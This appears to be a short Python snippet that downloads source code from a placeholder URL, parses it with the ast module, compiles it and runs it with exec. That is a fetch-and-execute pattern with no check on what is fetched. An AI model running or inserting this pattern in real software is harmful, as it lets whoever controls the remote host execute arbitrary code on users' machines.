import ast
import urllib.request

tree = ast.parse(urllib.request.urlopen("https://example.com/ast.py").read())
tree = ast.fix_missing_locations(tree)
exec(compile(tree, "<ast>", "exec"))
